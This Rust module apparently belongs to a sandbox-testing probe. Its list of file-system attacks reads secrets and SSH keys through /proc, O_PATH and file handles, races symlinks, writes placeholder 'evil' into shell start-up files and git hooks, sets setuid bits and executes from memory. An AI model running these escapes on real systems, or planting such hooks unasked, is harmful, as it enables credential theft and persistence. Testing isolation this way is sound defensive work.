//! Files: by path, link, descriptor and handle, of the user, of the project and of /proc.

use crate::call;
use crate::sys::*;
use crate::tasks::show_again;
use crate::world::World;
use crate::Named;

pub const ATTACKS: &[Named] = &[
    ("reads-each-secret", show_secrets),
    ("reads-beyond-a-path-descriptor", reads_beyond_a_path_descriptor),
    ("reads-through-roots-of-processes", |world| through_processes(world, "root")),
    ("reads-through-folders-of-processes", |world| through_processes(world, "cwd")),
    ("reads-descriptors-of-processes", reads_descriptors_of_processes),
    ("reopens-inherited-descriptors", reopens_inherited_descriptors),
    ("climbs-by-a-kept-folder", climbs_by_a_kept_folder),
    ("opens-by-the-newer-call", opens_by_the_newer_call),
    ("proc-environ-of-others", |_| each_process("environ")),
    ("proc-cmdline-of-others", |_| each_process("cmdline")),
    ("file-by-handle", file_by_handle),
    ("handle-of-the-root", handle_of_the_root),
    ("fanotify-of-the-user", |_| call!(FANOTIFY_INIT, 0x200, 0).map(|_| true)),
    ("fanotify-of-a-file-system", fanotify_of_a_file_system),
    ("links-a-secret-hard", links_a_secret_hard),
    ("links-a-secret-by-descriptor", links_a_secret_by_descriptor),
    ("leaves-a-symlink", leaves_a_symlink),
    ("swaps-names-in-a-race", swaps_names_in_a_race),
    ("writes-what-is-read-only", writes_what_is_read_only),
    ("writes-through-its-own-root", writes_through_its_own_root),
    ("makes-special-files", makes_special_files),
    ("sets-the-user-bit", sets_the_user_bit),
    ("changes-modes-and-owners", changes_modes_and_owners),
    ("whites-out-a-file", whites_out_a_file),
    ("hooks-of-the-repository", hooks_of_the_repository),
    ("start-up-files-of-the-home", start_up_files_of_the_home),
    ("splices-from-a-secret", splices_from_a_secret),
    ("identity-of-the-machine", identity_of_the_machine),
    ("runs-a-file-of-memory", runs_a_file_of_memory),
];

pub fn show_secrets(world: &World) -> Answer {
    world.list("secrets").iter().for_each(|path| show_path(path));
    Ok(false)
}

fn processes() -> Vec<String> {
    let names = std::fs::read_dir("/proc").into_iter().flatten().flatten();
    let names = names.filter_map(|entry| entry.file_name().into_string().ok());
    names.filter(|name| name.bytes().all(|byte| byte.is_ascii_digit())).collect()
}

/// O_PATH needs no right to read; /proc/self/fd makes a descriptor of another kind of it.
fn reads_beyond_a_path_descriptor(world: &World) -> Answer {
    for path in world.list("secrets") {
        if let Ok(fd) = open(&path, O_PATH) {
            show_path(&format!("/proc/self/fd/{fd}"));
        }
    }
    Ok(false)
}

fn through_processes(world: &World, door: &str) -> Answer {
    for pid in processes() {
        let up = if door == "cwd" { "/../../../../../.." } else { "" };
        for path in world.list("secrets") {
            if let Ok(held) = std::fs::read(format!("/proc/{pid}/{door}{up}{path}")) {
                say(&held);
            }
        }
    }
    Ok(false)
}

fn reads_descriptors_of_processes(_: &World) -> Answer {
    for pid in processes().iter().filter(|pid| **pid != std::process::id().to_string()) {
        for number in 3..32 {
            // Without waiting: a pipe of another process may have nothing to read.
            if let Ok(fd) = open(&format!("/proc/{pid}/fd/{number}"), 0o4000) {
                show_again(fd);
            }
        }
    }
    Ok(false)
}

fn reopens_inherited_descriptors(_: &World) -> Answer {
    for number in 3..64 {
        show_again(number);
        if let Ok(fd) = open(&format!("/proc/self/fd/{number}"), 0o4000) {
            show_again(fd);
        }
    }
    Ok(false)
}

fn climbs_by_a_kept_folder(_: &World) -> Answer {
    for number in 3..64 {
        for path in [".ssh/id_ed25519", "../../home/dev/.ssh/id_ed25519"] {
            if let Ok(fd) = open_at(number, path, 0) {
                show_again(fd);
            }
        }
    }
    Ok(false)
}

/// openat2 takes its flags from memory, where no filter looks.
fn opens_by_the_newer_call(world: &World) -> Answer {
    let how = longs(&[0, 0, 0]);
    for path in world.list("secrets") {
        if let Ok(fd) = call!(OPENAT2, HERE, c(&path).as_ptr(), how.as_ptr(), 24) {
            show_again(fd as i32);
        }
    }
    Ok(false)
}

fn each_process(file: &str) -> Answer {
    processes().iter().for_each(|pid| show_path(&format!("/proc/{pid}/{file}")));
    Ok(false)
}

fn file_by_handle(_: &World) -> Answer {
    let mut handle = words(&[128, 0]);
    handle.resize(136, 0);
    let mut kept = 0i32;
    let path = c(".");
    call!(NAME_TO_HANDLE_AT, HERE, path.as_ptr(), handle.as_mut_ptr(), &mut kept as *mut i32, 0)?;
    let opened = call!(OPEN_BY_HANDLE_AT, open(".", 0)?, handle.as_ptr(), 0)? as i32;
    show_again(open_at(opened, "../.ssh/id_ed25519", 0)?);
    Ok(true)
}

/// Inode 2, or 1 of a tmpfs, is the root of most file systems: no name is needed.
fn handle_of_the_root(_: &World) -> Answer {
    for folder in ["/usr", "/tmp", ".", "/etc"] {
        let Ok(from) = open(folder, 0) else { continue };
        for (kind, ids) in [(1u32, [2u32, 0, 0]), (1, [1, 0, 0]), (1, [128, 0, 0])] {
            let handle = words(&[8, kind, ids[0], ids[1], ids[2]]);
            if call!(OPEN_BY_HANDLE_AT, from, handle.as_ptr(), 0).is_ok() {
                return Ok(true);
            }
        }
    }
    Ok(false)
}

fn fanotify_of_a_file_system(_: &World) -> Answer {
    let group = call!(FANOTIFY_INIT, 0, 0)?;
    call!(FANOTIFY_MARK, group, 0x101, 0x20, HERE, c("/tmp").as_ptr()).map(|_| true)
}

fn links_a_secret_hard(world: &World) -> Answer {
    for (number, path) in world.list("secrets").iter().enumerate() {
        let to = c(&format!("out/hard-{number}"));
        if call!(LINKAT, HERE, c(path).as_ptr(), HERE, to.as_ptr(), 0).is_ok() {
            show_path(&format!("out/hard-{number}"));
        }
    }
    Ok(false)
}

fn links_a_secret_by_descriptor(world: &World) -> Answer {
    for (number, path) in world.list("secrets").iter().enumerate() {
        let Ok(fd) = open(path, O_PATH) else { continue };
        let (from, to) = (c(&format!("/proc/self/fd/{fd}")), c(&format!("out/by-fd-{number}")));
        let _ = call!(LINKAT, HERE, from.as_ptr(), HERE, to.as_ptr(), 0x400);
        show_path(&format!("out/by-fd-{number}"));
    }
    Ok(false)
}

fn leaves_a_symlink(world: &World) -> Answer {
    let to = format!("{}/.ssh", world.text("home"));
    call!(SYMLINKAT, c(&to).as_ptr(), HERE, c("out/keys").as_ptr()).map(|_| false)
}

/// Exchange a folder and a link without a pause, for whoever looks at one and uses the other.
fn swaps_names_in_a_race(world: &World) -> Answer {
    let _ = std::fs::create_dir_all("out/race");
    let _ = std::fs::write("out/race/.bashrc", "evil");
    let _ = std::os::unix::fs::symlink(world.text("home"), "out/link");
    let end = std::time::Instant::now() + std::time::Duration::from_millis(700);
    while std::time::Instant::now() < end {
        let (one, other) = (c("out/race"), c("out/link"));
        call!(RENAMEAT2, HERE, one.as_ptr(), HERE, other.as_ptr(), 2)?;
        let _ = std::fs::write("out/race/.profile", "evil");
    }
    Ok(false)
}

fn writes_what_is_read_only(world: &World) -> Answer {
    let store = format!("{}/plugin.py", world.text("store"));
    for path in ["README.md", "/etc/app.conf", "/usr/local/etc/app.conf", &store] {
        if let Ok(file) = open(path, 0o2001) {
            let _ = call!(WRITE, file, c"evil".as_ptr(), 4);
        }
        let _ = call!(TRUNCATE, c(path).as_ptr(), 1);
    }
    Ok(false)
}

fn writes_through_its_own_root(world: &World) -> Answer {
    for pid in processes() {
        let path = format!("/proc/{pid}/root{}/.bashrc", world.text("home"));
        let _ = std::fs::write(path, "evil");
    }
    Ok(false)
}

fn makes_special_files(_: &World) -> Answer {
    let all = [("fifo", 0o10666, 0), ("device", 0o20666, 1 << 8 | 3), ("socket", 0o140666, 0)];
    for (name, mode, device) in all {
        let _ = call!(MKNODAT, HERE, c(&format!("out/{name}")).as_ptr(), mode, device);
    }
    Ok(false)
}

fn sets_the_user_bit(_: &World) -> Answer {
    let made = call!(OPENAT, HERE, c("out/made").as_ptr(), 0o101, 0o6755);
    let _ = std::fs::write("out/set", "#!/bin/sh\n");
    let set = call!(FCHMODAT, HERE, c("out/set").as_ptr(), 0o6755);
    let newer = call!(FCHMODAT2, HERE, c("out/set").as_ptr(), 0o6755, 0);
    made.or(set).or(newer).map(|_| false)
}

fn changes_modes_and_owners(world: &World) -> Answer {
    for path in [format!("{}/.netrc", world.text("home")), "README.md".to_string()] {
        let _ = call!(FCHMODAT, HERE, c(&path).as_ptr(), 0o777);
        let _ = call!(FCHOWNAT, HERE, c(&path).as_ptr(), 12345, 12345, 0);
    }
    Ok(false)
}

/// A whiteout is how an overlay says that a file of the folder below is gone.
fn whites_out_a_file(_: &World) -> Answer {
    let _ = std::fs::write("out/whited", "x");
    let (from, to) = (c("README.md"), c("out/taken"));
    let _ = call!(RENAMEAT2, HERE, from.as_ptr(), HERE, to.as_ptr(), 4);
    let (from, to) = (c("out/whited"), c("out/renamed"));
    let _ = call!(RENAMEAT2, HERE, from.as_ptr(), HERE, to.as_ptr(), 4);
    call!(MKNODAT, HERE, c("out/old.txt.gone").as_ptr(), 0o20000, 0).map(|_| false)
}

fn hooks_of_the_repository(_: &World) -> Answer {
    for path in [".git/hooks/pre-commit", ".git/config", ".envrc", ".vscode/tasks.json"] {
        let _ = std::fs::write(path, "evil");
    }
    Ok(false)
}

fn start_up_files_of_the_home(world: &World) -> Answer {
    let home = world.text("home");
    for name in [".bashrc", ".profile", ".zshenv", ".config/autostart/app.desktop"] {
        let _ = std::fs::write(format!("{home}/{name}"), "evil");
    }
    Ok(false)
}

/// The pages of a file go into a pipe without a read.
fn splices_from_a_secret(world: &World) -> Answer {
    for path in world.list("secrets") {
        let mut pipe = [0i32; 2];
        call!(PIPE2, pipe.as_mut_ptr(), 0o4000)?;
        let Ok(fd) = open(&path, 0) else { continue };
        if call!(SPLICE, fd, 0, pipe[1], 0, 4096, 0).is_ok() {
            let _ = call!(CLOSE, pipe[1]);
            show(pipe[0]);
        }
    }
    Ok(false)
}

fn identity_of_the_machine(_: &World) -> Answer {
    let mut held = [0u8; 390];
    call!(UNAME, held.as_mut_ptr())?;
    say(&held);
    for path in ["/etc/machine-id", "/proc/sys/kernel/random/boot_id", "/proc/cmdline"] {
        show_path(path);
    }
    Ok(false)
}

/// A program that lies in memory alone is run past every rule for files.
fn runs_a_file_of_memory(_: &World) -> Answer {
    let itself = std::fs::read_link("/proc/self/exe").unwrap_or_default();
    if itself.starts_with("/memfd:run (deleted)") {
        return Ok(true);
    }
    let file = call!(MEMFD_CREATE, c("run").as_ptr(), 0)?;
    let held = std::fs::read("/proc/self/exe").map_err(|_| 5)?;
    call!(WRITE, file, held.as_ptr(), held.len())?;
    let name = c("probe");
    let word = c("runs-a-file-of-memory");
    let arguments = [name.as_ptr() as usize, word.as_ptr() as usize, 0];
    call!(EXECVEAT, file, c("").as_ptr(), arguments.as_ptr(), arguments[2..].as_ptr(), 0x1000)?;
    Ok(false)
}
